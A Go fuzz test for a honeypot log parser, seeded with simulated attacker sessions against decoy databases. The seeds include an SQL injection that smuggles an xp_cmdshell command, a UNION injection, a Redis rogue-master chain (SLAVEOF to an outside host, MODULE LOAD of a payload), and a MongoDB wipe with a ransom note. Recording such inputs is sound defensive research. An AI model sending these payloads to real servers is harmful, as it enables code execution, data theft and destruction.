package pipeline

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"decoydb/internal/core"
)

// FuzzParseLine feeds arbitrary lines to the parser Load reads -logs
// files with. Those files outlive the farm that wrote them, and a
// restarted farm appends to them after cutting back a torn last line,
// so every line is input from disk: none may panic the parser, and a
// line it accepts must re-encode, in the format it was read in, to a
// line that parses back to the same event.
func FuzzParseLine(f *testing.F) {
	for _, line := range loggedLines(f) {
		f.Add(line)
	}
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"server":"redis","action":"login","timestamp":"2024-03-22T00:00:00+01:00","src_ip":"fe80::1%eth0"}`))
	f.Add([]byte(`{"time":"0000-01-01T00:00:00+00:01","addr":"[::ffff:1.2.3.4]:80","event":"close","level":"high"}`))
	f.Add([]byte(`{"time":"9999-12-31T23:59:00-00:02","addr":"1.2.3.4:80","event":"close","level":"low"}`))
	f.Add([]byte(`{"server":"mssql","action":"bogus"`)) // torn
	f.Fuzz(func(t *testing.T, line []byte) {
		e, err := parseLine(line)
		if err != nil {
			return
		}
		var probe struct {
			Server string `json:"server"`
		}
		if err := json.Unmarshal(line, &probe); err != nil {
			t.Fatalf("parseLine accepted %q, which is not JSON: %v", line, err)
		}
		var rec any = toSession(e)
		if probe.Server != "" {
			rec = toQeeqbox(e)
		}
		again, err := json.Marshal(rec)
		if err != nil {
			t.Fatalf("accepted line %q does not re-encode: %v", line, err)
		}
		e2, err := parseLine(again)
		if err != nil {
			t.Fatalf("accepted line %q re-encodes to %q, which fails to parse: %v", line, again, err)
		}
		if !e2.Time.Equal(e.Time) {
			t.Fatalf("time %v re-encodes as %q and parses back as %v", e.Time, again, e2.Time)
		}
		e2.Time = e.Time
		if e2 != e {
			t.Fatalf("line %q parses to\n%+v\nbut re-encodes as %q, which parses to\n%+v", line, e, again, e2)
		}
	})
}

// loggedLines returns the lines LogWriter writes for sessions like the
// simulator's scripts (internal/simnet/scripts.go) run — brute-force
// logins on the low tier, Redis scouting and the rogue-master chain,
// MongoDB's list-and-wipe ransom run, an RDP probe sent to Postgres —
// and for the SQL injection and xp_cmdshell strings attackers send.
func loggedLines(f *testing.F) [][]byte {
	f.Helper()
	at := core.ExperimentStart.Add(90 * time.Minute)
	src := netip.MustParseAddrPort("198.51.100.7:51234")
	low := func(dbms string, inst int) core.Info {
		return core.Info{DBMS: dbms, Level: core.Low, Port: core.DefaultPort(dbms), Instance: inst,
			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "lo-multi-01"}
	}
	med := func(dbms, config string) core.Info {
		return core.Info{DBMS: dbms, Level: core.Medium, Port: core.DefaultPort(dbms),
			Config: config, Group: core.GroupMedium, Region: "eu"}
	}
	mongo := core.Info{DBMS: core.MongoDB, Level: core.High, Port: core.DefaultPort(core.MongoDB),
		Config: core.ConfigFakeData, Group: core.GroupHigh, Region: "us"}
	ev := func(hp core.Info, kind core.EventKind, user, pass, cmd, raw string) core.Event {
		at = at.Add(1500 * time.Millisecond)
		return core.Event{Time: at, Src: src, Honeypot: hp, Kind: kind, User: user, Pass: pass, Command: cmd, Raw: raw}
	}
	redis := med(core.Redis, core.ConfigFakeData)
	events := []core.Event{
		ev(low(core.MSSQL, 3), core.EventConnect, "", "", "", ""),
		ev(low(core.MSSQL, 3), core.EventLogin, "sa", "123", "", ""),
		ev(low(core.MySQL, 1), core.EventLogin, "root", "", "", ""),
		ev(low(core.MSSQL, 3), core.EventCommand, "", "", "EXEC", "1'; EXEC xp_cmdshell('whoami');--"),
		ev(low(core.MSSQL, 3), core.EventClose, "", "", "", ""),
		ev(redis, core.EventCommand, "", "", "INFO", "INFO"),
		ev(redis, core.EventCommand, "", "", "KEYS", "KEYS *"),
		ev(redis, core.EventCommand, "", "", "SLAVEOF", "SLAVEOF 198.51.100.9 6379"),
		ev(redis, core.EventCommand, "", "", "MODULE LOAD", "MODULE LOAD /tmp/exp.so"),
		ev(med(core.Postgres, core.ConfigDefault), core.EventLogin, "postgres", "postgres", "", ""),
		ev(med(core.Postgres, core.ConfigDefault), core.EventCommand, "", "", "SELECT",
			"1' AND 1=1 UNION SELECT table_name,NULL FROM information_schema.tables--"),
		ev(med(core.Postgres, core.ConfigDefault), core.EventCommand, "", "", "RAW",
			"\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"),
		ev(mongo, core.EventCommand, "", "", "listDatabases", `{"listDatabases":1,"$db":"admin"}`),
		ev(mongo, core.EventCommand, "", "", "delete", `{"delete":"users","deletes":[{"q":{},"limit":0}]}`),
		ev(mongo, core.EventCommand, "", "", "insert", `{"insert":"README","documents":[{"content":"All your data is backed up. You must pay 0.01 BTC"}]}`),
	}
	events[1].OK = true
	dir := f.TempDir()
	lw, err := NewLogWriter(dir)
	if err != nil {
		f.Fatal(err)
	}
	if err := lw.RecordBatch(events); err != nil {
		f.Fatal(err)
	}
	if err := lw.Close(); err != nil {
		f.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.json"))
	if err != nil {
		f.Fatal(err)
	}
	var lines [][]byte
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		lines = append(lines, bytes.SplitAfter(bytes.TrimSuffix(b, []byte("\n")), []byte("\n"))...)
	}
	if len(lines) != len(events) {
		f.Fatalf("LogWriter wrote %d lines for %d events", len(lines), len(events))
	}
	return lines
}
